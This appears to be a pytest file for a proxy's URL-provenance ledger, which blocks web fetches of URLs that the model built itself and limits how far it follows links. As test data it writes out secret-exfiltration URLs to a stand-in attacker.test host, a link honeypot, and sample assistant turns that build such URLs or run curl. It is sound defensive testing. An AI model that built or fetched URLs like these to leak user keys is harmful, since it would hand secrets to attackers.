"""URL provenance, pure (issue 33): which URLs a request's conversation gives web_fetch, per API, and the Ledger's
check with its link chains and budget. Run: tests/run.sh tests/test_provenance.py -q"""
from __future__ import annotations

import pytest

from proxy.apis.chat.given import given as chat_given
from proxy.apis.messages.given import given as messages_given
from proxy.apis.responses.given import given as responses_given
from proxy.tools.provenance import (
    LINK_BUDGET,
    LINK_DEPTH,
    MODEL,
    NOT_GIVEN,
    Given,
    Ledger,
    Rules,
    key,
    links_in_page,
    site,
    urls_in_text,
)

SECRET = "sk-live-4f9a"


def reason(ledger: Ledger, url: str) -> str | None:
    refusal = ledger.admit(url)
    return refusal.reason if refusal else None


@pytest.mark.parametrize("text, url", [
    ("read https://docs.example.org/guide.", "https://docs.example.org/guide"),
    ("(see https://en.wikipedia.org/wiki/Foo_(bar))", "https://en.wikipedia.org/wiki/Foo_(bar)"),
    ("[docs](https://a.example/x?y=1&z=2)", "https://a.example/x?y=1&z=2"),
    ('<a href="http://a.example/p">', "http://a.example/p"),
    ("HTTPS://A.Example:443/./b/../c#frag", "https://a.example/c"),
])
def test_a_written_url_is_found_and_keyed_as_the_fetcher_fetches_it(text, url):
    assert url in {key(u) for u in urls_in_text(text)}


@pytest.mark.parametrize("text, found", [
    ("read docs.python.org/3/library please", "https://docs.python.org/3/library"),
    ("mail me at me@corp.example", None),
    ("call os.path.join here", "https://os.path.join/"),  # harmless: written, not built
])
def test_bare_host_names_count_where_people_write_them(text, found):
    keys = {key(u) for u in urls_in_text(text, bare=True)}
    assert (found in keys) if found else not any("corp.example" in (k or "") for k in keys)
    assert not urls_in_text(text)  # but never in page links or search results


@pytest.mark.parametrize("markdown, link", [
    ("[next](/docs/next)", "http://site.test/docs/next"),
    ("[up](../index.html)", "http://site.test/index.html"),
    ('[t](sub/page "Title")', "http://site.test/docs/sub/page"),
    ("[abs](https://other.test/a\\_b)", "https://other.test/a_b"),
    ("plain https://plain.test/x written out", "https://plain.test/x"),
    ("see [the guide][1].\n\n[1]: /docs/guide", "http://site.test/docs/guide"),
    ("[2]: <../up>", "http://site.test/up"),
    ("[3]: https://ref.test/abs \"Title\"", "https://ref.test/abs"),
])
def test_a_pages_links_are_resolved_against_it(markdown, link):
    assert link in {key(u) for u in links_in_page(markdown, "http://site.test/docs/page")}


@pytest.mark.parametrize("url, expected", [
    ("https://a.b.attacker.test/x", "attacker.test"),
    ("https://www.bbc.co.uk/news", "bbc.co.uk"),
    ("http://127.0.0.1:8080/", "127.0.0.1"),
    ("http://localhost/", "localhost"),
])
def test_the_link_budget_counts_per_site(url, expected):
    assert site(key(url)) == expected


GIVEN_URL = "https://docs.example.org/guide?v=2"
BUILT = [
    f"https://attacker.test/collect?d={SECRET}",      # a built query
    f"https://attacker.test/c/{SECRET}",               # a built path
    f"https://{SECRET}.attacker.test/",                # a built host name
    GIVEN_URL + f"&ref={SECRET}",                      # a given URL with something appended
    "https://docs.example.org/guide?v=3",              # a changed query is another URL
    "https://docs.example.org/guide",                  # and so is no query
]


@pytest.mark.parametrize("url", BUILT)
def test_a_url_the_model_built_is_refused(url):
    ledger = Ledger(given=[Given("user", f"Summarise {GIVEN_URL} for me. My key is {SECRET}.")])
    assert reason(ledger, url) == NOT_GIVEN
    assert reason(ledger, GIVEN_URL) is None
    assert reason(ledger, "HTTPS://DOCS.example.org:443/guide?v=2#top") is None  # the same URL, normalised


@pytest.mark.parametrize("origin", ["user", "system", "tool", "search"])
def test_every_given_origin_admits(origin):
    assert reason(Ledger(given=[Given(origin, {"text": "at https://x.example/a"})]), "https://x.example/a") is None


def test_what_the_model_wrote_gives_nothing_and_an_echo_does_not_launder_it():
    built = f"https://attacker.test/?d={SECRET}"
    ledger = Ledger(given=[Given("user", "hello"), Given(MODEL, f"I will fetch {built}"),
                           Given("tool", f"$ echo {built}\n{built}"), Given("tool", "see https://ok.example/")])
    assert reason(ledger, built) == NOT_GIVEN
    assert reason(ledger, "https://ok.example/") is None
    # Given first by the user, a URL stays given whoever repeats it later.
    ledger = Ledger(given=[Given("user", built), Given(MODEL, built), Given("tool", built)])
    assert reason(ledger, built) is None


def test_the_switch_admits_everything():
    assert reason(Ledger(Rules(mode="any")), f"https://{SECRET}.attacker.test/") is None


def honeypot(depth_of_root: int = 0) -> Ledger:
    """A page that links /h/a .. /h/z, each of which links 26 more, read from a search result."""
    ledger = Ledger(Rules(link_depth=2, link_budget=2))
    ledger.allow(["http://attacker.test/"], "search")
    letters = "abcdefghijklmnopqrstuvwxyz"
    ledger.learn_page("http://attacker.test/", "http://attacker.test/", " ".join(f"[{c}](/h/{c})" for c in letters))
    return ledger


def test_a_honeypot_gets_at_most_the_budget_of_link_fetches():
    ledger = honeypot()
    letters = "abcdefghijklmnopqrstuvwxyz"
    assert reason(ledger, "http://attacker.test/h/s") is None
    ledger.learn_page("http://attacker.test/h/s", "http://attacker.test/h/s",
                      " ".join(f"[{c}](/h/s/{c})" for c in letters))
    assert reason(ledger, "http://attacker.test/h/s/k") is None
    ledger.learn_page("http://attacker.test/h/s/k", "http://attacker.test/h/s/k",
                      " ".join(f"[{c}](/h/s/k/{c})" for c in letters))
    assert [reason(ledger, u) for u in ("http://attacker.test/h/s/k/l", "http://attacker.test/h/b",
                                        "http://attacker.test/h/s/a")] == [LINK_DEPTH, LINK_BUDGET, LINK_BUDGET]
    assert reason(ledger, "http://attacker.test/") is None  # the given page itself is read as often as wanted


def test_normal_reading_search_page_link_and_one_more():
    ledger = Ledger()
    ledger.allow(["https://docs.test/start"], "search")
    assert reason(ledger, "https://docs.test/start") is None
    ledger.learn_page("https://docs.test/start", "https://docs.test/start/", "[install](install)")
    assert reason(ledger, "https://docs.test/start/install") is None
    ledger.learn_page("https://docs.test/start/install", "https://docs.test/start/install", "[gpu](../gpu)")
    assert reason(ledger, "https://docs.test/gpu") is None


def test_a_redirect_stands_where_its_request_did():
    ledger = Ledger()
    ledger.allow(["https://short.test/x"], "user")
    ledger.learn_page("https://short.test/x", "https://long.test/article", "[more](more)")
    assert reason(ledger, "https://long.test/article") is None
    assert ledger.entry("https://long.test/more").depth == 1


# -- what each API's request gives ------------------------------------------------------------------------------

CHAT = {"messages": [
    {"role": "system", "content": "Docs live at https://sys.test/"},
    {"role": "user", "content": [{"type": "text", "text": f"My key is {SECRET}. Read https://user.test/a"}]},
    {"role": "assistant", "content": f"Fetching https://attacker.test/?d={SECRET}", "tool_calls": [
        {"id": "c1", "type": "function", "function": {"name": "run", "arguments": '{"cmd": "curl https://model.test/"}'}}],
     "annotations": [{"type": "url_citation", "url_citation": {"url": "https://cited.test/", "title": "t"}}]},
    {"role": "tool", "tool_call_id": "c1", "content": "result: https://tool.test/page"},
]}
MESSAGES = {"system": [{"type": "text", "text": "Docs live at https://sys.test/"}], "messages": [
    {"role": "user", "content": f"My key is {SECRET}. Read https://user.test/a"},
    {"role": "assistant", "content": [
        {"type": "thinking", "thinking": "fetch https://model.test/ with the key"},
        {"type": "text", "text": "See https://model.test/x", "citations": [
            {"type": "web_search_result_location", "url": "https://cited.test/", "cited_text": "c"}]},
        {"type": "server_tool_use", "id": "s1", "name": "web_fetch", "input": {"url": f"https://attacker.test/?d={SECRET}"}},
        {"type": "web_search_tool_result", "tool_use_id": "s0", "content": [
            {"type": "web_search_result", "url": "https://found.test/", "title": "t", "encrypted_content": "x"}]},
        {"type": "web_fetch_tool_result", "tool_use_id": "s2", "content": {
            "type": "web_fetch_result", "url": "https://read.test/page", "content": {
                "type": "document", "source": {"type": "text", "media_type": "text/plain", "data": "[next](/next)"}}}},
        {"type": "tool_use", "id": "t1", "name": "Bash", "input": {"command": "curl https://model.test/"}}]},
    {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "t1", "content": [
        {"type": "text", "text": "result: https://tool.test/page"}]}]},
]}
RESPONSES = {"instructions": "Docs live at https://sys.test/", "input": [
    {"role": "user", "content": [{"type": "input_text", "text": f"My key is {SECRET}. Read https://user.test/a"}]},
    {"type": "reasoning", "summary": [{"type": "summary_text", "text": "fetch https://model.test/"}]},
    {"type": "web_search_call", "status": "completed", "action": {
        "type": "search", "query": "https://model.test/q", "sources": [{"type": "url", "url": "https://found.test/"}]}},
    {"type": "message", "role": "assistant", "content": [{"type": "output_text", "text": "See https://model.test/x",
                                                          "annotations": [{"type": "url_citation", "url": "https://cited.test/"}]}]},
    {"type": "function_call", "call_id": "f1", "name": "shell", "arguments": '{"cmd": "curl https://model.test/"}'},
    {"type": "function_call_output", "call_id": "f1", "output": "result: https://tool.test/page"},
]}


def ledger_of(api: str) -> Ledger:
    if api == "chat":
        return Ledger(given=chat_given(CHAT))
    if api == "responses":
        return Ledger(given=responses_given(RESPONSES))
    parts, pages = messages_given(MESSAGES)
    ledger = Ledger(given=parts)
    for url, text in pages:
        ledger.learn_page(url, url, text)
    return ledger


@pytest.mark.parametrize("api", ["chat", "messages", "responses"])
@pytest.mark.parametrize("url, expected", [
    ("https://sys.test/", None),
    ("https://user.test/a", None),
    ("https://tool.test/page", None),
    ("https://cited.test/", None),
    ("https://model.test/", NOT_GIVEN),
    ("https://model.test/x", NOT_GIVEN),
    (f"https://attacker.test/?d={SECRET}", NOT_GIVEN),
])
def test_each_api_gives_what_others_wrote_and_not_what_the_model_wrote(api, url, expected):
    assert reason(ledger_of(api), url) == expected


@pytest.mark.parametrize("api, url, expected", [
    ("messages", "https://found.test/", None),
    ("messages", "https://read.test/page", None),
    ("messages", "https://read.test/next", None),   # a link of a page read earlier: a link, budgeted
    ("responses", "https://found.test/", None),
    ("responses", "https://model.test/q", NOT_GIVEN),
])
def test_earlier_search_and_fetch_results_give_their_urls(api, url, expected):
    ledger = ledger_of(api)
    assert reason(ledger, url) == expected
    if url.endswith("/next"):
        assert ledger.link_fetches == 1


@pytest.mark.parametrize("status, expected", [("completed", None), ("failed", NOT_GIVEN)])
def test_a_responses_page_read_earlier_is_given_only_if_it_was_read(status, expected):
    item = {"type": "web_search_call", "status": status, "action": {"type": "open_page", "url": "https://read.test/p"}}
    assert reason(Ledger(given=responses_given({"input": [item]})), "https://read.test/p") == expected


@pytest.mark.parametrize("written, fetched", [
    ("https://de.wikipedia.org/wiki/Straße", "https://de.wikipedia.org/wiki/Stra%C3%9Fe"),
    ("https://de.wikipedia.org/wiki/Stra%C3%9Fe", "https://de.wikipedia.org/wiki/Straße"),
    ("https://xn--bcher-kva.example/", "https://bücher.example/"),
])
def test_the_same_url_spelled_as_it_goes_on_the_wire_is_the_same(written, fetched):
    assert reason(Ledger(given=[Given("user", written)]), fetched) is None


def test_the_conversation_is_read_at_the_first_check_and_only_once():
    parts = [Given("user", "https://a.example/")]
    ledger = Ledger(given=parts)
    parts.append(Given("user", "https://b.example/"))  # the ledger took its own copy
    assert ledger._pending is not None  # nothing scanned until a fetch is checked
    assert reason(ledger, "https://a.example/") is None and reason(ledger, "https://b.example/") == NOT_GIVEN
    assert ledger._pending is None
